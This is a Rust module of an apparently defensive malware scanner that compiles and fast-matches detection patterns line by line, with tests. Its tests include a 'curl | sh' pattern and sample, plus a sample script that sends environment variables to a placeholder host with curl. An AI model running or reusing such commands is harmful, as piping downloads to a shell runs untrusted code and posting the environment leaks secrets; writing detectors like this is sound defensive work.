//! Compiled scanner patterns, and matching them line by line.
//!
//! Two choices keep a scan fast (a few microseconds per kilobyte):
//! - Case-insensitive regexes defeat the regex crate's literal prefilters
//!   (every case variant of `invoke-webrequest` is a literal). So a *folded*
//!   pattern is written in lower case and matched against an
//!   ASCII-lowercased copy of the text; ASCII lowercasing keeps every byte
//!   offset, so hits and excerpts come from the original at the same place.
//! - Unicode classes (`\s`, `[^\n]`, `\b`) make the lazy DFA's states large
//!   and slow; the rules look for ASCII keywords and shell syntax, so every
//!   pattern runs in ASCII mode over bytes.

use std::sync::LazyLock;

use std::sync::{Mutex, PoisonError};

use regex::bytes::Regex;
use regex_automata::Input;
use regex_automata::hybrid::dfa::{Cache, DFA};
use regex_automata::nfa::thompson;
use regex_syntax::hir::{Hir, HirKind, Repetition};

use super::excerpt::excerpt;
use super::gate::Gate;
use super::{Document, Hit};

/// A regex and the text it reads: the original, or the folded copy.
/// The gate (its literals) and the regex are made on first use, apart:
/// the literal index of every pattern needs the gates, while a regex is
/// compiled only once a text gets past its gate (a small import never
/// compiles most of them).
pub struct Pattern {
    folded: bool,
    gate: LazyLock<Gate>,
    regex: LazyLock<Regex>,
    screen: LazyLock<Option<Screen>>,
}

impl Pattern {
    /// A pattern compiled on first use; `folded` ones read the lowercased text.
    pub const fn new(
        folded: bool,
        gate: LazyLock<Gate>,
        regex: LazyLock<Regex>,
        screen: LazyLock<Option<Screen>>,
    ) -> Self {
        Self {
            folded,
            gate,
            regex,
            screen,
        }
    }

    /// False only when `line` holds no match: asks the forward lazy DFA
    /// alone, so that a pattern whose candidate lines hold no match never
    /// builds its full regex (most of them, most of the time).
    fn may_match_line(&self, line: &str) -> bool {
        Screen::admits(self.screen.as_ref(), line, || self.regex())
    }

    /// Whether the pattern is written for the ASCII-lowercased text.
    pub fn is_folded(&self) -> bool {
        self.folded
    }

    /// The compiled regex.
    pub fn regex(&self) -> &Regex {
        &self.regex
    }

    /// The literals every match holds.
    pub fn gate(&self) -> &Gate {
        &self.gate
    }

    /// True when the pattern matches somewhere in the text of `doc` it
    /// reads: the literals every match needs are looked for first (see [`Gate`]).
    pub fn is_match(&self, doc: &Document<'_>) -> bool {
        let haystack = self.haystack(doc);
        let open = self.gate_open(doc);
        // Tests and debug builds check that a gate never hides a match.
        debug_assert!(open || !self.regex().is_match(haystack.as_bytes()));
        open && self.regex().is_match(haystack.as_bytes())
    }

    /// True when the gate (literals, trigrams) lets `doc` through.
    fn gate_open(&self, doc: &Document<'_>) -> bool {
        doc.index.gate_open(doc, &self.gate, self.folded)
    }

    /// The text of `doc` this pattern reads.
    pub fn haystack<'a>(&self, doc: &Document<'a>) -> &'a str {
        if self.folded { doc.folded } else { doc.text }
    }
}

/// Declares a pattern matched against the original text (case matters).
macro_rules! exact {
    ($name:ident, $re:expr) => {
        static $name: $crate::scanner::pattern::Pattern = $crate::scanner::pattern::Pattern::new(
            false,
            std::sync::LazyLock::new(|| $crate::scanner::pattern::gate(&$re)),
            std::sync::LazyLock::new(|| {
                $crate::scanner::pattern::compile(stringify!($name), &$re, false)
            }),
            std::sync::LazyLock::new(|| $crate::scanner::pattern::Screen::new(&$re)),
        );
    };
}

/// Declares a pattern written in lower case and matched against the
/// ASCII-lowercased text (case does not matter).
macro_rules! folded {
    ($vis:vis $name:ident, $re:expr) => {
        $vis static $name: $crate::scanner::pattern::Pattern = $crate::scanner::pattern::Pattern::new(
            true,
            std::sync::LazyLock::new(|| $crate::scanner::pattern::gate(&$re)),
            std::sync::LazyLock::new(|| {
                $crate::scanner::pattern::compile(stringify!($name), &$re, true)
            }),
            std::sync::LazyLock::new(|| $crate::scanner::pattern::Screen::new(&$re)),
        );
    };
}

pub(crate) use {exact, folded};

/// A pattern's forward lazy DFA, compiled as [`compile`] compiles the
/// regex (ASCII mode, over bytes): it says whether a line holds a match,
/// not where. Building it costs a little under half of a full regex
/// (0.54 M instructions a pattern against 1.25 M, callgrind on obra),
/// which adds the reverse automaton that finds where a match starts and a
/// literal prefilter (of no use on a line the literal index chose for
/// holding the pattern's literals).
pub struct Screen {
    dfa: DFA,
    /// Caches of the threads searching now (a search needs one of its own),
    /// boxed: a `Cache` is moved out and back on every line, and unboxed
    /// those moves were 14 M instructions of `memcpy` in `lint` of K-Dense.
    /// (regex-automata's `Pool` was tried: a cache per thread, so each
    /// thread built its own lazy-DFA states, 16 M more.)
    #[allow(
        clippy::vec_box,
        reason = "measured: a pointer moves where a Cache was copied"
    )]
    caches: Mutex<Vec<Box<Cache>>>,
}

impl Screen {
    /// The screen of a scanner pattern; None when the lazy DFA cannot be
    /// built (the full regex then decides alone).
    pub fn new(pattern: &str) -> Option<Self> {
        let hir = regex_syntax::ParserBuilder::new()
            .utf8(false)
            .build()
            .parse(&format!("(?-u){pattern}"))
            .ok()?;
        let nfa = thompson::Compiler::new()
            .configure(
                thompson::Config::new()
                    .utf8(false)
                    .which_captures(thompson::WhichCaptures::None),
            )
            .build_from_hir(&widened(hir))
            .ok()?;
        let dfa = DFA::builder().build_from_nfa(nfa).ok()?;
        Some(Self {
            dfa,
            caches: Mutex::new(Vec::new()),
        })
    }

    /// False only when `line` holds no match: asked of `screen` when there
    /// is one and it does not give up; `regex` is the pattern's full regex,
    /// which tests and debug builds ask too, to check the screen.
    pub(crate) fn admits<'r>(
        screen: Option<&Self>,
        line: &str,
        regex: impl FnOnce() -> &'r Regex,
    ) -> bool {
        let open = screen
            .and_then(|s| s.is_match(line.as_bytes()))
            .unwrap_or(true);
        debug_assert!(open || !regex().is_match(line.as_bytes()));
        open
    }

    /// Whether `line` holds a match; None when the lazy DFA gave up.
    pub(crate) fn is_match(&self, line: &[u8]) -> Option<bool> {
        let lock = || self.caches.lock().unwrap_or_else(PoisonError::into_inner);
        let mut cache = lock()
            .pop()
            .unwrap_or_else(|| Box::new(self.dfa.create_cache()));
        let found = self
            .dfa
            .try_search_fwd(&mut cache, &Input::new(line).earliest(true));
        lock().push(cache);
        found.ok().map(|m| m.is_some())
    }
}

/// Repetitions with more than this many copies are unbounded in a screen.
const MOST_COPIES_IN_A_SCREEN: u32 = 4;

/// `hir` with every long bounded repetition made unbounded (`[^.\n]{0,200}?`
/// as `[^.\n]*`) and its captures dropped: a language that holds the
/// pattern's, so a line it rejects holds no match. A bounded repetition
/// compiles one copy of its body per count, in the automaton's states and
/// in the lazy DFA's; the long ones were most of a screen's build (about
/// 1 M instructions a pattern) and of its searches' state building.
fn widened(hir: Hir) -> Hir {
    match hir.into_kind() {
        HirKind::Repetition(rep) => {
            let sub = widened(*rep.sub);
            let long = rep.max.is_none_or(|max| max > MOST_COPIES_IN_A_SCREEN);
            let (min, max) = if long {
                (rep.min.min(1), None)
            } else {
                (rep.min, rep.max)
            };
            Hir::repetition(Repetition {
                min,
                max,
                greedy: rep.greedy,
                sub: Box::new(sub),
            })
        }
        HirKind::Capture(capture) => widened(*capture.sub),
        HirKind::Concat(subs) => Hir::concat(subs.into_iter().map(widened).collect()),
        HirKind::Alternation(subs) => Hir::alternation(subs.into_iter().map(widened).collect()),
        HirKind::Empty => Hir::empty(),
        HirKind::Literal(literal) => Hir::literal(literal.0),
        HirKind::Class(class) => Hir::class(class),
        HirKind::Look(look) => Hir::look(look),
    }
}

/// The gate of a scanner pattern (in ASCII mode, as [`compile`] compiles it).
pub fn gate(pattern: &str) -> Gate {
    Gate::new(&format!("(?-u){pattern}"))
}

/// The flags every scanner regex is compiled with, built-in or from a
/// rules file: ASCII mode (see the module comment), and multi-line, since
/// a pattern written for one line is also run over the whole text (to
/// check a file, or when its literals are on most lines), where `^` and
/// `$` must still mean a line's start and end.
pub(crate) const REGEX_FLAGS: &str = "(?m-u)";

/// Compiles a pattern of the scanner with [`REGEX_FLAGS`]. The patterns are
/// constants of the rules file, never input, and the test suite compiles
/// every one of them: a mistake in one is a bug caught there, so it panics
/// with the name.
pub fn compile(name: &str, pattern: &str, folded: bool) -> Regex {
    if folded {
        let mut chars = pattern.chars();
        while let Some(c) = chars.next() {
            if c == '\\' {
                chars.next();
            } else if c.is_ascii_uppercase() {
                panic!("folded scanner pattern {name} has an upper-case letter '{c}'");
            }
        }
    }
    let pattern = format!("{REGEX_FLAGS}{pattern}");
    Regex::new(&pattern).unwrap_or_else(|e| panic!("scanner pattern {name}: {e}"))
}

/// True when `pattern`, reading the original text, matches `doc`, for
/// patterns whose every match is made of non-ASCII bytes only (UTF-8 of
/// characters outside ASCII): a match then lies inside one run of such
/// bytes, so only those runs are searched. Files are mostly ASCII, and
/// such patterns (alternations of lead bytes) give the regex nothing to
/// skip with: it read every byte (50 ms on the benign corpus).
pub fn matches_in_non_ascii_runs(doc: &Document<'_>, pattern: &Pattern) -> bool {
    let bytes = doc.text.as_bytes();
    let regex = pattern.regex();
    let found = non_ascii_runs(bytes).any(|run| regex.is_match(&bytes[run]));
    // Tests and debug builds check that the runs hold every match.
    debug_assert_eq!(found, regex.is_match(bytes));
    found
}

/// The maximal runs of non-ASCII bytes of `bytes`, in order: where every
/// character other than ASCII is (a run is whole characters in UTF-8).
pub fn non_ascii_runs(bytes: &[u8]) -> impl Iterator<Item = std::ops::Range<usize>> + '_ {
    let mut at = 0;
    std::iter::from_fn(move || {
        let start = next_non_ascii(bytes, at)?;
        let end = bytes[start..]
            .iter()
            .position(u8::is_ascii)
            .map_or(bytes.len(), |i| start + i);
        at = end;
        Some(start..end)
    })
}

/// Where the first non-ASCII byte at or after `from` is: eight bytes at a
/// time, their high bits tested at once (runs are close together in text
/// with dashes or arrows, so the search is short and its start-up counts).
fn next_non_ascii(bytes: &[u8], from: usize) -> Option<usize> {
    const HIGH: u64 = u64::from_ne_bytes([0x80; 8]);
    let rest = bytes.get(from..)?;
    let (words, tail) = rest.as_chunks::<8>();
    for (w, word) in words.iter().enumerate() {
        let high = u64::from_le_bytes(*word) & HIGH;
        if high != 0 {
            return Some(from + w * 8 + high.trailing_zeros() as usize / 8);
        }
    }
    tail.iter()
        .position(|&b| b >= 0x80)
        .map(|i| from + words.len() * 8 + i)
}

/// Every match of `pattern` on each line, as hits.
pub fn line_hits(doc: &Document<'_>, pattern: &Pattern) -> Vec<Hit> {
    line_hits_where(doc, pattern, |_, _| true)
}

/// Every match of `pattern` on each line for which `keep(line, match_start)`
/// holds (`line` is the line of the text the pattern reads).
pub fn line_hits_where(
    doc: &Document<'_>,
    pattern: &Pattern,
    keep: impl Fn(&str, usize) -> bool,
) -> Vec<Hit> {
    let mut hits = Vec::new();
    let haystack = pattern.haystack(doc);
    // Only lines holding one of the gate's literals can hold a match; when
    // they are few, they alone are searched. Otherwise one pass over the
    // whole text first: most files match no pattern at all.
    let Some(lines) = doc.index.gate_lines(doc, &pattern.gate, pattern.folded) else {
        return hits;
    };
    let starts = doc.index.lines(doc, pattern.folded);
    if lines.is_none() && !pattern.regex().is_match(haystack.as_bytes()) {
        return hits;
    }
    debug_assert!(skipped_lines_hold_no_match(
        pattern.regex(),
        haystack,
        lines.as_deref()
    ));
    let each = |i: usize, line: &str, searched: &str, hits: &mut Vec<Hit>| {
        // Offsets are shared only where normalising changed no length
        // (ASCII lines); elsewhere show the normalised words. Decided once
        // a line: a long line with a match every few bytes would otherwise
        // be read whole for each.
        let mut source = None;
        for m in pattern.regex().find_iter(searched.as_bytes()) {
            if keep(searched, m.start()) {
                let source =
                    *source.get_or_insert_with(|| if line.is_ascii() { line } else { searched });
                let matched = source.as_bytes().get(m.range()).unwrap_or_default();
                hits.push(Hit {
                    line: i as u32 + 1,
                    excerpt: excerpt(&String::from_utf8_lossy(matched)),
                });
            }
        }
    };
    match &lines {
        Some(lines) => {
            let text_starts = doc.index.lines(doc, false);
            for &i in lines {
                let i = i as usize;
                if let (Some(line), Some(searched)) =
                    (text_starts.line(doc.text, i), starts.line(haystack, i))
                    && pattern.may_match_line(searched)
                {
                    each(i, line, searched, &mut hits);
                }
            }
        }
        None => {
            for (i, (line, searched)) in doc.text.lines().zip(haystack.lines()).enumerate() {
                each(i, line, searched, &mut hits);
            }
        }
    }
    // Hits count only where the pattern matches the whole text too (the
    // rule the full search applies). With `(?m)` a match on a line is one
    // of the whole text (`^`, `$` and `\b` read the same at a line's ends),
    // so the text is searched again only for a pattern that anchors at the
    // text's own ends (`\A`, `\z`, or multi-line turned off), which a
    // rules file may hold: that search was a fifth of the scan on K-Dense.
    if lines.is_some()
        && !hits.is_empty()
        && anchors_at_text_ends(pattern.regex().as_str())
        && !pattern.regex().is_match(haystack.as_bytes())
    {
        hits.clear();
    }
    debug_assert!(hits.is_empty() || pattern.regex().is_match(haystack.as_bytes()));
    hits
}

/// True when a pattern's source can match at the start or end of the whole
/// text only (`\A`, `\z`, or `(?-m)` making `^` and `$` those).
pub(crate) fn anchors_at_text_ends(source: &str) -> bool {
    source.contains("\\A") || source.contains("\\z") || source.contains("-m")
}

/// Tests and debug builds check that the lines [`Gate::lines`] leaves out
/// hold no match.
pub fn skipped_lines_hold_no_match(regex: &Regex, haystack: &str, lines: Option<&[u32]>) -> bool {
    let Some(lines) = lines else {
        return true;
    };
    haystack
        .lines()
        .enumerate()
        .all(|(i, l)| lines.contains(&(i as u32)) || !regex.is_match(l.as_bytes()))
}

/// Every line matched by any of `patterns`, once, in line order.
pub fn any_line_hits(doc: &Document<'_>, patterns: &[&Pattern]) -> Vec<Hit> {
    let mut hits: Vec<Hit> = patterns.iter().flat_map(|p| line_hits(doc, p)).collect();
    hits.sort_by_key(|h| h.line);
    hits.dedup_by_key(|h| h.line);
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[should_panic(expected = "folded scanner pattern X has an upper-case letter 'C'")]
    fn folded_patterns_must_be_lower_case() {
        compile("X", r"\bCurl\S", true);
    }

    proptest::proptest! {
        /// The runs are the maximal runs of non-ASCII bytes, found naively.
        #[test]
        fn non_ascii_runs_are_the_maximal_runs(text in "[a \n\u{e9}\u{2014}\u{1f600}]{0,80}") {
            let bytes = text.as_bytes();
            let mut naive = Vec::new();
            let mut i = 0;
            while i < bytes.len() {
                if bytes[i].is_ascii() {
                    i += 1;
                    continue;
                }
                let start = i;
                while i < bytes.len() && !bytes[i].is_ascii() {
                    i += 1;
                }
                naive.push(start..i);
            }
            proptest::prop_assert_eq!(non_ascii_runs(bytes).collect::<Vec<_>>(), naive);
        }
    }

    /// Every built-in pattern has a screen that admits every line of the
    /// samples its regex matches and turns away almost every other.
    #[test]
    fn every_built_in_pattern_has_a_screen() {
        for pattern in super::super::rules::PATTERNS {
            let screen = pattern.screen.as_ref().expect("a screen");
            let source = pattern.regex().as_str();
            assert_eq!(
                screen.is_match(b""),
                Some(pattern.regex().is_match(b"")),
                "{source}"
            );
        }
        // And on every line of the malicious samples, in the text each reads.
        let texts = crate::scanner::tests::malicious_sample_texts();
        let folded: Vec<String> = texts
            .iter()
            .map(|(_, t)| crate::scanner::normalize::normalize_text_lowered(t).0)
            .collect();
        let (mut matched, mut admitted, mut rejected) = (0, 0, 0);
        for pattern in super::super::rules::PATTERNS {
            let screen = pattern.screen.as_ref().expect("a screen");
            let lines: Vec<&str> = if pattern.is_folded() {
                folded.iter().flat_map(|t| t.lines()).collect()
            } else {
                texts.iter().flat_map(|(_, t)| t.lines()).collect()
            };
            for line in lines {
                let want = pattern.regex().is_match(line.as_bytes());
                let said = screen.is_match(line.as_bytes());
                // Never a line with a match turned away.
                assert!(!want || said == Some(true), "{line:?}");
                matched += usize::from(want);
                admitted += usize::from(!want && said == Some(true));
                rejected += usize::from(said == Some(false));
            }
        }
        assert!(matched > 50, "{matched}");
        // Widened repetitions admit a few lines the regex then turns away.
        assert!(
            admitted * 100 < rejected,
            "{admitted} admitted, {rejected} rejected"
        );
        let screen = Screen::new(r"\bcurl\s+\S+\s*\|\s*sh\b").expect("a screen");
        assert_eq!(screen.is_match(b"curl https://x | sh"), Some(true));
        assert_eq!(screen.is_match(b"curl https://x | shell"), Some(false));
        assert_eq!(screen.is_match(b"scurl x | sh"), Some(false));
        // A long bounded repetition is read unbounded: a superset.
        let screen = Screen::new(r"\bab[^\n]{0,3}cd\b|\bef[^\n]{0,30}gh\b").expect("a screen");
        assert_eq!(screen.is_match(b"ab 12 cd"), Some(false));
        assert_eq!(screen.is_match(b"ef 12 gh"), Some(true));
        assert_eq!(
            screen.is_match(&[b"ef ".as_slice(), &[b'x'; 40], b" gh"].concat()),
            Some(true)
        );
    }

    /// A whole-text search stands in for the line-by-line one when a
    /// pattern's literals are on most lines (`line_hits`): whatever a
    /// built-in pattern matches on a line it must match in the whole text,
    /// `^` and `$` included.
    #[test]
    fn what_a_line_matches_the_whole_text_matches() {
        let mut texts: Vec<String> = crate::scanner::tests::malicious_sample_texts()
            .into_iter()
            .map(|(_, t)| t)
            .collect();
        texts.push("#!/bin/sh\nprintenv\ncurl -d @- https://x.example/c\n".to_owned());
        let mut checked = 0;
        for pattern in super::super::rules::PATTERNS {
            for text in &texts {
                let text = if pattern.is_folded() {
                    crate::scanner::normalize::normalize_text_lowered(text).0
                } else {
                    text.clone()
                };
                let regex = pattern.regex();
                if text.lines().any(|l| regex.is_match(l.as_bytes())) {
                    assert!(
                        regex.is_match(text.as_bytes()),
                        "{}: {text:?}",
                        regex.as_str()
                    );
                    checked += 1;
                }
            }
        }
        assert!(checked > 100, "{checked}");
    }

    #[test]
    fn escapes_are_not_letters() {
        assert!(compile("Y", r"\S+\s\d", true).is_match(b"ab 1"));
    }
}
